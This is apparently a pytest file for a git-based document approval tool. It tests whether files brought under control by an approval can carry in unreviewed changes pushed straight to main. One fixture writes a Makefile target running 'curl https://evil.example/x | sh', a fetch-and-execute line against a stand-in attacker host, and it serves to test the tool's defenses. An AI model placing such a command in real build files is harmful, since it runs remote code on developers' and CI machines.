"""A path becomes controlled by an approval that does not change it: an approved mkdocs.yml
that names a hook, or approval.controlled_paths gaining a path (README tells adopters who
install their own checkout to add pyproject.toml, tools/, Makefile…). What main holds there at
the merge becomes the version in force, though the approver reviewed the branch's version;
and a path that left control keeps its stale version in force, so when it comes back every
approved change to it is refused (DC516.adopts) for edits nobody needed to approve."""

from __future__ import annotations

import pytest

from history_helpers import make_scenario
from rules_attacks import (
    EVIL,
    HOOK,
    HOOK_BASE,
    SITE_OFF,
    SITE_ON,
    approve,
    forge_merge,
    last_event,
    pending,
    strict_trail,
)


def _imported(tmp_path, mkdocs=SITE_OFF):
    s = make_scenario(tmp_path)
    s.files.write("mkdocs.yml", mkdocs)
    s.files.write(HOOK, HOOK_BASE)
    s.files.write("Makefile", "vendor:\n\tnpm ci\n")
    s.git.commit("补充导入", who="wangfang", date="2026-01-01T12:00:00+08:00")  # pre-control
    return s


CASES = {
    # zhaolei's reviewed branch enables the (benign, reviewed) hook
    "hook": ("mkdocs.yml", SITE_ON, HOOK, HOOK_BASE + EVIL),
    # zhaolei's reviewed branch puts the Makefile CI runs (make vendor) under control
    "controlled_paths": (
        "doccontrol.yml",
        None,
        "Makefile",
        "vendor:\n\tcurl https://evil.example/x | sh\n",
    ),
}


@pytest.mark.parametrize("how", ["approve", "forge"])
@pytest.mark.parametrize("case", list(CASES))
def test_a_path_brought_under_control_takes_mains_unreviewed_version(tmp_path, case, how):
    """After the review, liujing pushes her version of the file straight to main (not yet
    controlled: no DC516). The approval brings it under control as she left it: nothing is
    pending, trail --strict passes, the strict site build imports her hook / CI runs her
    Makefile."""
    rules, new_rules, path, evil = CASES[case]
    s = _imported(tmp_path)
    s.git.branch("ctl")
    if new_rules is None:
        s.set_config("approval:\n", "approval:\n  controlled_paths: [Makefile, tools/]\n")
    else:
        s.files.write(rules, new_rules)
    s.git.commit("受控", who="zhaolei")
    s.git.checkout("main")
    s.files.write(path, evil)
    s.git.commit("直接改", who="liujing")
    if how == "approve":
        result, merged = approve(s, "ctl")
        assert not merged, result.stdout
    else:
        forge_merge(s, "ctl")
        assert (s.root / path).read_text(encoding="utf-8") == evil
        assert path in pending(s) or strict_trail(s) != 0, last_event(s)


def test_a_hook_enabled_again_refuses_every_approved_change(tmp_path):
    """The hook is approved (v1), the approved mkdocs.yml stops naming it, zhaolei edits it
    while it is no part of the build (uncontrolled, legitimately), the approved mkdocs.yml
    names it again. From then on no approved change to the hook can apply: approve refuses
    ("changes on the main branch nobody approved ()", naming no commit) and the trail says
    DC516.adopts; the only way out is to restore v1, which nothing names."""
    s = _imported(tmp_path, SITE_ON)

    def approved(branch, path, text):
        s.git.branch(branch)
        s.files.write(path, text)
        s.git.commit(branch, who="zhaolei")
        s.git.checkout("main")
        result, merged = approve(s, branch)
        return result, merged

    assert approved("v1", HOOK, HOOK_BASE + "# v1\n")[1]
    assert approved("off", "mkdocs.yml", SITE_OFF)[1]
    s.files.write(HOOK, HOOK_BASE + "# v2（停用期间的修改）\n")
    s.git.commit("停用期间修改", who="zhaolei")
    assert approved("on", "mkdocs.yml", SITE_ON)[1]
    result, merged = approved("v3", HOOK, HOOK_BASE + "# v3\n")
    assert merged, result.stdout
    assert HOOK in last_event(s)["accepted"], last_event(s)["problems"]
